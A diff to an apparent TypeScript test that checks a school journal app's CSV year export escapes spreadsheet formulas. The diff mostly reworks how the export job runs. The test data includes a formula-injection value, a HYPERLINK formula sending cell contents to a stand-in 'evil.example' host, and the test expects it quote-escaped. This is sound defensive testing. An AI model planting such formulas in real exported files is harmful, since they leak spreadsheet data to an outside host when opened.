@@ -7,6 +7,7 @@ import { engines, startTestCore, type TestCore } from '../support/engines';
 import type { JournalSchool } from '../support/journal-fixture';
 import { buildSmallSchool, type SmallSchool } from '../support/school-fixture';
 import { schoolWithJournal, tempDir } from './backup-helpers';
+import { runJobDone } from '../support/jobs';
 
 // Text a spreadsheet would run as a formula leaves the app with a leading quote (OWASP);
 // what the school typed stays as typed.
@@ -71,7 +72,8 @@ describe.each(engines)('spreadsheet exports escape formulas on %s', (engine) => 
       await school.admin.ok('students.update', { id: school.students.alekseev, surname: hyperlink, name: '-Артём', patronymic: '' });
       // Fixture data: a subject ordered before the others with a negative sort order.
       await t.core.store.db.updateTable('subject').set({ sort_order: -3 }).where('name', '=', 'Математика').execute();
-      const report = await school.admin.ok('backup.exportYear', { year: '2026/2027', to: dir });
+      await runJobDone(school.admin, 'backup.exportYear', { year: '2026/2027', to: dir });
+      const report = { folder: join(dir, 'zhurnal-archive-2026-2027') };
 
       const students = readFileSync(join(report.folder, 'csv', 'student.csv'), 'utf8');
       expect(students).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A2;""Подробнее"")";'-Артём;`);
